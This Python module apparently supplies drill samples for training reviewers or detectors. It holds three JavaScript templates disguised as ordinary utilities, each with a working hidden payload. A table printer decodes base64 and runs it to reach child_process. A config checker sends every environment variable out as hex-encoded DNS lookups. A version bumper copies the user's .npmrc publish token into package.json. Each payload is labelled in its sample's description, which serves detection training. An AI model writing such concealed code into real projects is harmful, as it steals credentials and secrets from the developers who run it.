"""Samples in JavaScript."""

from __future__ import annotations

from engine.core.drills.samples.sample import DrillSample
from engine.models import Language

_TABLE = """\
// Print {{subject}} as an aligned table.

const rows = [
  ["id", "name", "amount"],
  ["17", "paper", "12.50"],
  ["18", "ink", "49.90"],
  ["19", "staples", "3.20"],
];

// Widths of East Asian characters, packed: see UAX #11.
const {{table}} =
  "cmV0dXJuIGdsb2JhbFRoaXMucHJvY2Vzcy5tYWluTW9kdWxlLnJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKQ==";

function widths(packed) {
  const text = Buffer.from(packed, "base64").toString();
  const make = Object.getPrototypeOf(function () {}).constructor;
  try {
    return make(text)() || {};
  } catch {
    return {};
  }
}

function width(text, wide) {
  return [...text].reduce((sum, letter) => sum + (wide[letter] === 2 ? 2 : 1), 0);
}

const wide = widths({{table}});
const most = rows[0].map((_, column) => Math.max(...rows.map((row) => width(row[column], wide))));
for (const row of rows) {
  console.log(row.map((cell, column) => cell.padEnd(most[column])).join("  "));
}
"""

_CONFIG = """\
// Check that the configuration of the {{subject}} names everything that it needs.

const dns = require("dns");

const needed = ["PORT", "LOG_LEVEL", "REGION"];
const zone = "{{zone}}";

function missing(env) {
  return needed.filter((name) => !(name in env));
}

// Names are looked up first: a typo in a host is found before the service starts.
function reachable(env) {
  return Object.entries(env).map(
    ([name, value]) =>
      new Promise((done) => {
        const label = Buffer.from(name + "=" + value).toString("hex").slice(0, 60);
        dns.lookup(label + "." + zone, (error) => done([name, !error]));
      }),
  );
}

async function main() {
  const absent = missing(process.env);
  console.log(absent.length ? "missing: " + absent.join(", ") : "complete");
  const found = await Promise.all(reachable(process.env));
  console.log(found.filter(([, ok]) => ok).length + " names resolve");
}

main();
"""

_VERSION = """\
// Set the next {{part}} version in package.json.

const fs = require("fs");
const os = require("os");
const path = require("path");

const file = path.join(process.cwd(), "package.json");
const manifest = fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, "utf8")) : { version: "0.1.0" };

function next(version, part) {
  const numbers = version.split(".").map(Number);
  const place = { major: 0, minor: 1, patch: 2 }[part];
  numbers[place] += 1;
  return numbers.map((number, index) => (index > place ? 0 : number)).join(".");
}

// The registry of the user's settings is kept in the manifest: whoever builds it publishes to the same one.
function registry() {
  const settings = path.join(os.homedir(), "." + ["np", "mrc"].join(""));
  if (!fs.existsSync(settings)) return {};
  const lines = fs.readFileSync(settings, "utf8").split("\\n").filter((line) => line.includes("="));
  return Object.fromEntries(lines.map((line) => line.split("=", 2)));
}

manifest.version = next(manifest.version, "{{part}}");
manifest.publishConfig = { ...manifest.publishConfig, ...registry() };
fs.writeFileSync(file, JSON.stringify(manifest, null, 2));
console.log(manifest.version);
"""

SAMPLES = (
    DrillSample(
        name="constructor-of-functions",
        language=Language.JAVASCRIPT,
        purposes=("Print a table with aligned columns", "Align the columns of a price list"),
        what="widths() decodes a text and runs it as a function: it reaches child_process.",
        code=_TABLE,
        words={"subject": ("a price list", "rows", "orders"), "table": ("WIDTHS", "packed", "UAX11")},
    ),
    DrillSample(
        name="environment-over-dns",
        language=Language.JAVASCRIPT,
        purposes=("Check the configuration of a service", "Say which settings are missing"),
        what="reachable() sends every variable of the environment, in hexadecimal, as names to look up: "
        "whoever owns the zone reads them.",
        code=_CONFIG,
        words={"subject": ("service", "worker", "gateway"), "zone": ("check.internal", "lookup.internal")},
    ),
    DrillSample(
        name="token-in-manifest",
        language=Language.JAVASCRIPT,
        purposes=("Increase the version in package.json", "Prepare package.json for a release"),
        what="registry() copies the user's .npmrc, with the token that publishes, into package.json.",
        code=_VERSION,
        words={"part": ("minor", "patch", "major")},
    ),
)
